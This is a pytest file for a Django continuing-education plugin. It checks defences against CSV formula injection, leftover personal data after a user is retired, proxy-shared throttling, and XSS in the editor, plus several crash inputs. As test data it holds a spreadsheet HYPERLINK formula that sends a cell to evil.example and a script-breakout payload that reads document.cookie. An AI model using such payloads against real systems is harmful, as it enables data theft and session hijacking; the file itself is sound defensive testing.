"""
What a careless user or an attacker met: formula cells in CSV files, personal data left after retirement,
a throttle that all clients behind a proxy share, and author text that could close the editor's script.
"""
import csv
import io
import json

import pytest
from django.urls import reverse
from webob import Request

from ce_plugin import api
from ce_plugin import exceptions as errors
from ce_plugin.evaluations import standard_questions
from ce_plugin.models import AttendanceCode, ReportJob
from ce_plugin.spreadsheets import safe_cell
from ce_plugin.storage import records_storage
from tests import factories
from tests.test_staff import claim_and_finalize, enrol, staff_url

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def read_csv(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Dr. Lee", "Dr. Lee"), ("", ""), (3, 3), ("a=b", "a=b"),
])
def test_formula_like_cells_are_shown_as_text(value, shown):
    assert safe_cell(value) == shown


def test_learner_text_reaches_no_spreadsheet_as_a_formula(client, activity, statement_type, instructor, now,
                                                          django_capture_on_commit_callbacks):
    session = factories.SessionFactory(activity=activity, title="Sepsis", evaluation=standard_questions())
    learner = enrol(activity, "=cmd", first_name="@Jordan", last_name="-Lee")
    AttendanceCode.objects.create(activity=activity, code="B-1", kind="badge", holder_name="+Registrant",
                                  holder_email="reg@example.org")
    answers = {"objectives_met": 5, "relevant": 4, "unbiased": "no", "unbiased__comment": FORMULA,
               "practice_change": "yes", "overall": 5, "comments": "-2+3"}
    claim_and_finalize(learner, activity, statement_type, [session], now, answers=answers)
    client.force_login(instructor)
    cells = [cell for row in read_csv(client.get(staff_url(activity, "evaluations-csv")))[1:] for cell in row]
    assert "'" + FORMULA in cells and "'-2+3" in cells and FORMULA not in cells
    cells = [cell for row in read_csv(client.get(staff_url(activity, "codes-csv")))[1:] for cell in row]
    assert "'+Registrant" in cells and "+Registrant" not in cells
    with django_capture_on_commit_callbacks(execute=True):
        client.post(staff_url(activity, "start-report", "roster"))
    rows = read_csv(client.get(staff_url(activity, "report-file", ReportJob.objects.get().id)))
    assert rows[1][0] == "'=cmd" and not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])


def test_accreditation_files_keep_their_format_and_refuse_formula_values(activity, statement_type, now):
    """PARS and CPE Monitor files are read by machines: values go in as they are, or are refused where they enter."""
    activity.accme_activity_id = "ACT-123"
    activity.save()
    profile = {"license_number": "A123", "license_state": "MA", "birth_mmdd": "0731"}
    statement_type.credit_type.required_profile_fields = list(profile)
    statement_type.credit_type.save()
    fine = enrol(activity, "fine", first_name="Jordan", last_name="Lee")
    risky = enrol(activity, "risky", first_name="=Jordan", last_name="Lee")
    session = factories.SessionFactory(activity=activity)
    for user in (fine, risky):
        claim_and_finalize(user, activity, statement_type, [session], now, profile=profile)
    export = api.pars_export(activity.course_key)
    rows, missing = export.rows, export.missing
    assert [row[1:3] for row in rows] == [["Jordan", "Lee"]]
    assert missing[0]["username"] == "risky" and "does not start with" in str(missing[0]["missing"][0])
    with pytest.raises(errors.InvalidInputError) as refused:
        api.select_statement_type(fine, activity.course_key, statement_type.id, {**profile, "license_number": "=1"})
    assert "license_number" in refused.value.params["errors"]
    with pytest.raises(errors.InvalidInputError) as refused:
        api.save_activity_settings(None, activity.course_key, {
            "activity_type": "live_meeting", "attendance_mode": "none", "title": "Meeting", "time_zone": "UTC",
            "accme_activity_id": "=HYPERLINK(1)"}, [], [], {})
    assert "accme_activity_id" in refused.value.params["errors"]


def test_retirement_clears_unbound_codes_and_deletes_reports_that_list_the_learner(
        client, activity, statement_type, instructor, now, django_capture_on_commit_callbacks):
    learner = enrol(activity, "retiring", email="retiring@example.org")
    AttendanceCode.objects.create(activity=activity, code="B-9", kind="badge", holder_name="Retiring Learner",
                                  holder_email="Retiring@Example.org")  # imported, never used
    AttendanceCode.objects.create(activity=activity, code="B-10", kind="badge", holder_name="Someone Else",
                                  holder_email="else@example.org")
    claim_and_finalize(learner, activity, statement_type, [factories.SessionFactory(activity=activity)], now)
    client.force_login(instructor)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(staff_url(activity, "start-report", "roster"))
    job = ReportJob.objects.get()
    name = job.file.name
    assert "retiring@example.org" in records_storage().open(name).read().decode()
    with django_capture_on_commit_callbacks(execute=True):
        api.retire_user(learner)
    unbound = AttendanceCode.objects.get(code="B-9")
    assert (unbound.holder_name, unbound.holder_email) == ("", "")
    assert AttendanceCode.objects.get(code="B-10").holder_email == "else@example.org"
    job.refresh_from_db()
    assert job.status == ReportJob.EXPIRED and not records_storage().exists(name)


def test_verify_throttle_keys_on_the_client_behind_the_proxy(client, settings, activity):
    """Behind the LMS's proxy every request has the proxy's REMOTE_ADDR; the client is in X-Forwarded-For."""
    settings.CE_VERIFY_RATE_LIMIT = 2
    settings.CLOSEST_CLIENT_IP_FROM_HEADERS = [{"name": "X-Forwarded-For", "index": -1}]
    url = reverse("ce_plugin:verify", args=["AAAA-BBBB-CCCC"])
    proxy = {"REMOTE_ADDR": "10.0.0.1"}
    for _attempt in range(2):
        assert client.get(url, HTTP_X_FORWARDED_FOR="203.0.113.5", **proxy).status_code == 404
    assert client.get(url, HTTP_X_FORWARDED_FOR="203.0.113.5", **proxy).status_code == 429
    assert client.get(url, HTTP_X_FORWARDED_FOR="198.51.100.7", **proxy).status_code == 404  # another client


def test_author_text_cannot_close_the_editors_script_element(activity, instructor):
    from devhost_platform.models import BlockRecord, Course, Unit
    from devhost_platform.runtime import DevRuntime
    course = Course.objects.get(course_key=activity.course_key)
    unit = Unit.objects.create(course=course, title="Unit", position=1)
    usage = activity.course_key.make_usage_key("ce_session", "x1")
    attack = "</script><script>alert(document.cookie)</script>"
    BlockRecord.objects.create(unit=unit, usage_key=usage, block_type="ce_session", position=1, fields={
        "session_title": attack, "evaluation": [{"id": "q1", "type": "text", "text": attack}]})
    runtime = DevRuntime(instructor)
    fragment = runtime.render(runtime.get_block(usage), "studio_view")
    assert attack not in fragment.content
    assert "alert(document.cookie)" not in str(fragment.json_init_args or "")
    assert "\\u003C/script\\u003E" in fragment.content  # the JSON data, escaped inside its own script element


# --- the seven causes of server errors a probe found, each pinned by its own request ------------------------


def test_credits_with_a_huge_exponent_are_refused_not_a_crash(client, ready, activity, session, now):
    from freezegun import freeze_time
    client.force_login(ready)
    url = reverse("ce_plugin:claim", args=[str(activity.course_key)])
    for amount in ("1e999999999", "-1e999999999", "1e-999999999"):
        with freeze_time(now):
            response = client.post(url, {f"credits:{session.usage_key}": amount})
        assert response.status_code == 400, amount


@pytest.mark.parametrize("answers", [[1], {}, {"overall": float("inf")}, {"overall": [5]},
                                     {"practice_change": ["yes"]}, {"practice_change": {"a": 1}},
                                     {"comments": {"x": 1}}, {"overall": True}, {"overall": 4.0}])
def test_evaluation_answers_of_the_wrong_json_type_are_refused(ready, activity, session, answers, unchanged):
    session.evaluation = standard_questions()
    session.save()
    base = {"objectives_met": 5, "relevant": 4, "unbiased": "yes", "practice_change": "yes", "overall": 5}
    payload = {**base, **answers} if isinstance(answers, dict) and answers else answers
    with unchanged(), pytest.raises(errors.InvalidInputError):
        api.submit_evaluation(ready, session.usage_key, payload)


@pytest.mark.parametrize("code", ["----", "!!!", "٣٤٥", "é"])
def test_verify_form_with_a_code_of_no_letters_or_digits(client, code):
    response = client.get(reverse("ce_plugin:verify-form"), {"code": code})
    assert response.status_code == 400 and 'data-result="malformed"' in response.content.decode()


@pytest.mark.parametrize("payload", [
    {"session_title": 5, "starts_at_local": 20260610, "ends_at_local": ["x"], "time_zone": 3},
    {"speakers": "one", "learning_objectives": {"a": 1}, "max_credits": ["1"], "evaluation": "q"},
    {"max_credits": {"ama-pra-1": "1e999999999"}, "evaluation": [{"id": "q", "type": ["likert"], "text": "x"}]},
])
def test_editor_handlers_with_numbers_or_lists_for_texts(activity, instructor, payload):
    from devhost_platform.models import BlockRecord, Course, Unit
    from devhost_platform.runtime import DevRuntime
    unit = Unit.objects.create(course=Course.objects.get(course_key=activity.course_key), title="U", position=1)
    usage = activity.course_key.make_usage_key("ce_session", "ed1")
    BlockRecord.objects.create(unit=unit, usage_key=usage, block_type="ce_session", position=1, fields={})
    runtime = DevRuntime(instructor)
    block = runtime.get_block(usage)
    for handler in ("save_session", "suggest_credits"):
        request = Request.blank("/", method="POST", body=json.dumps(payload).encode(),
                                content_type="application/json")
        response = block.handle(handler, request)
        assert response.status_code == 200
    saved = block.handle("save_session", Request.blank("/", method="POST", body=json.dumps(
        payload).encode(), content_type="application/json"))
    assert json.loads(saved.body)["ok"] is False


@pytest.mark.parametrize("content", [
    "code,email,name\rB-1,a@example.org,A\rB-2,b@example.org,B",  # CR-only line ends
    "code,email,name\nB-1,a@example.org,A,extra,fields\nB-2",  # extra fields, short row
    "code,email\nB-1," + "x" * 140_000,  # a field longer than the csv module's limit
    "code\n\"B-1\nB-2",  # an unterminated quote
])
def test_badge_csv_files_of_every_shape(activity, content):
    try:
        report = api.import_badge_codes(None, activity.course_key, content)
    except errors.InvalidInputError as refused:
        assert "file" in refused.params["errors"]
    else:
        assert report.rows >= 1


def test_a_claim_window_closing_on_the_last_representable_day_in_any_zone(activity):
    from datetime import datetime
    from zoneinfo import ZoneInfo
    values = {"activity_type": "live_meeting", "attendance_mode": "none", "title": "Meeting",
              "time_zone": "America/New_York",
              "claim_closes_at": datetime(9999, 12, 31, 23, 59, tzinfo=ZoneInfo("America/New_York"))}
    with pytest.raises(errors.InvalidInputError) as refused:
        api.save_activity_settings(None, activity.course_key, values, [], [], {})
    assert "claim_closes_at" in refused.value.params["errors"]


def test_evaluation_results_read_answers_against_the_question_they_answered(client, activity, statement_type,
                                                                           instructor, now):
    session = factories.SessionFactory(activity=activity, title="Sepsis", evaluation=standard_questions())
    learner = enrol(activity, "early")
    answers = {"objectives_met": 5, "relevant": 4, "unbiased": "yes", "practice_change": "already", "overall": 5}
    claim_and_finalize(learner, activity, statement_type, [session], now, answers=answers)
    # The course team then turns "practice_change" (a choice) into a 1-5 rating, and "overall" into free text.
    questions = standard_questions()
    for question in questions:
        if question["id"] == "practice_change":
            question.update(type="likert", choices=None)
            question.pop("choices")
        if question["id"] == "overall":
            question["type"] = "text"
    session.evaluation = questions
    session.save()
    results = {q["id"]: q for q in api.evaluation_results(activity.course_key)[0]["questions"]}
    assert results["practice_change"]["answered"] == 0 and results["practice_change"]["earlier"] == 1
    assert results["overall"]["texts"] == [] and results["overall"]["earlier"] == 1
    client.force_login(instructor)
    assert client.get(staff_url(activity, "evaluations")).status_code == 200
    assert client.get(staff_url(activity, "evaluations-csv")).status_code == 200
